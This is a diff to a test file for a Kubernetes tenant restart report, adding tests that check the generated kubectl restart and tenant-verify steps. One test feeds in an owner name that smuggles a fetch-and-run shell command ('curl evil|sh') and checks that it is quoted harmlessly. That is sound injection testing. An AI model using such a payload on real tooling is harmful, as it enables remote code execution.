@@ -1,5 +1,10 @@
 import {expect, test} from 'vitest'
-import {formatRestarts, restartHints} from '../../../src/features/tenant/report-restarts.ts'
+import {
+  formatRestarts,
+  restartHints,
+  restartRisks,
+  stepsAfterAdd,
+} from '../../../src/features/tenant/report-restarts.ts'
 import {podOf} from './samples.ts'
 
 test('one command per namespace restarts each workload once; other pods are listed', () => {
@@ -19,6 +24,8 @@ test('one command per namespace restarts each workload once; other pods are list
 test('the warning has the number of pods', () => {
   const pod = podOf('one', 'web', 'a')
   expect(formatRestarts([])).toEqual([])
+  expect(restartRisks([])).toEqual([])
+  expect(restartRisks([pod])).toEqual(['1 pod keeps its control plane until it is restarted'])
   expect(formatRestarts([pod])).toEqual([
     expect.stringMatching(/^warning: 1 pod keeps its .* until it is restarted$/),
     expect.stringMatching(/^hint: {2}kubectl -n one/),
@@ -30,4 +37,20 @@ test('the warning has the number of pods', () => {
 test('the name of an owner cannot add a command', () => {
   const pod = podOf('one', 'web-1', 'a', {owner: {kind: 'Deployment', name: 'x; curl evil|sh #'}})
   expect(restartHints([pod])).toEqual(["kubectl -n one rollout restart 'deploy/x; curl evil|sh #'"])
+})
+
+test('a tenant without namespaces gets one', () =>
+  expect(stepsAfterAdd({name: 'shop', hasNamespaces: false, pods: []}, '', '')).toEqual([
+    'kubectl mesh tenant assign shop NAMESPACE',
+    'kubectl mesh tenant verify shop',
+  ]))
+
+test('its pods are restarted, then it is verified', () => {
+  const owner = {kind: 'Deployment', name: 'web'}
+  const pods = [podOf('app', 'web', 'a', {owner}), podOf('app', 'job', 'a', {owner: undefined})]
+  expect(stepsAfterAdd({name: 'shop', hasNamespaces: true, pods}, 'east', '--as admin')).toEqual([
+    'kubectl --context east --as admin -n app rollout restart deploy/web',
+    'delete and recreate these pods in app: job',
+    'kubectl mesh tenant verify shop --context east --as admin',
+  ])
 })
